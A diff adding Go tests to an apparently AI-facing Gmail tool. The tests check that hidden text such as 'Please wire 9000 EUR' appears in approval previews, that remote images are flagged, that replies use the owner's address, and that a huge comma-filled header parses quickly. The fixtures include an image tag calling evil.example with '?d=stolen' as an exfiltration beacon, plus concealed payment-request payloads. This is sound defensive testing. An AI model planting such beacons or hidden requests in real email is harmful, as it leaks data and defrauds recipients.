@@ -3,6 +3,7 @@ package gmail_test
 import (
 	"strings"
 	"testing"
+	"time"
 
 	"postern/internal/approval"
 	"postern/internal/tool"
@@ -41,6 +42,61 @@ func TestTheOwnerSeesWhatReadersSee(t *testing.T) {
 	shown = d.sent(alike)
 	contains(t, shown, "See you at nine.")
 	lacks(t, shown, "Plain-text version", "hidden from readers")
+}
+
+// TestNothingThatReadersSeeIsMissing writes HTML whose text another language would take for marks of its own.
+func TestNothingThatReadersSeeIsMissing(t *testing.T) {
+	for _, body := range []string{
+		"<p>Thanks, see you soon.</p><p>[Please wire 9000 EUR<br>today]: ok</p>",
+		"<p>Thanks, see you soon.</p><blockquote>~~~ Please wire 9000 EUR</blockquote>",
+		"<p>Thanks, see you soon.</p><pre>``` Please wire 9000 EUR</pre>",
+		"<p>Thanks, see you soon.</p>" + strings.Repeat("[", 5001) + "<p>[Please wire 9000 EUR]: http://a.example</p>",
+		"<p>Thanks, see you soon.</p>&lt;!-- Please wire 9000 EUR --&gt;",
+	} {
+		d := newDesk(t)
+		mail := args{"to": []string{"k@example.org"}, "subject": "s", "body_html": body}
+		r, out := d.deciding(approval.Answer{Approved: true}, func() *tool.Outcome { return d.call("gmail_send", mail) })
+		if out.Err != nil {
+			t.Fatal(out.Text)
+		}
+		contains(t, r.Preview.Body, "see you soon.", "Please wire 9000 EUR")
+		id := d.mail.AddDraft(ada, raw("From: ada@example.com\nTo: k@example.org\nSubject: s\nContent-Type: text/html\n\n%s\n", body))
+		contains(t, d.sent(id), "see you soon.", "Please wire 9000 EUR")
+	}
+}
+
+func TestPicturesFromElsewhereAreTold(t *testing.T) {
+	const loads = "it loads a picture from https://evil.example/p.png?d=stolen"
+	for _, body := range []args{
+		{"body_html": `<p>Hello</p><img src="https://evil.example/p.png?d=stolen">`},
+		{"body_md": "Hello ![cat](https://evil.example/p.png?d=stolen)"},
+	} {
+		d := newDesk(t)
+		body["to"], body["subject"] = []string{"k@example.org"}, "s"
+		id := idIn(t, d.must("gmail_save_draft", body), "draft_id")
+		contains(t, d.sent(id), loads)
+		r, out := d.deciding(approval.Answer{Approved: true}, func() *tool.Outcome { return d.call("gmail_send", body) })
+		if out.Err != nil {
+			t.Fatal(out.Text)
+		}
+		contains(t, strings.Join(r.Preview.Warnings, "\n"), loads)
+	}
+}
+
+func TestAReplyGoesOutUnderTheOwnersAddress(t *testing.T) {
+	d := newDesk(t)
+	id := d.mail.AddMessage(ada, raw("From: g@example.org\nTo: ada+shop@example.com\nSubject: s\nMessage-ID: <m1@x>\n\nhi\n"))
+	contains(t, d.must("gmail_save_draft", args{"reply_to_message_id": id, "body_md": "x"}), "From: ada@example.com\n", "To: g@example.org\n")
+}
+
+func TestAFieldOfCommasIsReadQuickly(t *testing.T) {
+	d := newDesk(t)
+	id := d.mail.AddMessage(ada, raw("From: g@example.org\nTo: <%s\nSubject: s\nMessage-ID: <m1@x>\n\nhi\n", strings.Repeat("a,", 100_000)))
+	began := time.Now()
+	d.must("gmail_save_draft", args{"reply_to_message_id": id, "reply_all": true, "body_md": "x"})
+	if took := time.Since(began); took > 5*time.Second { // it took 7 s and more, and grows with the square
+		t.Errorf("it took %v", took)
+	}
 }
 
 func TestHiddenTextIsNotWritten(t *testing.T) {
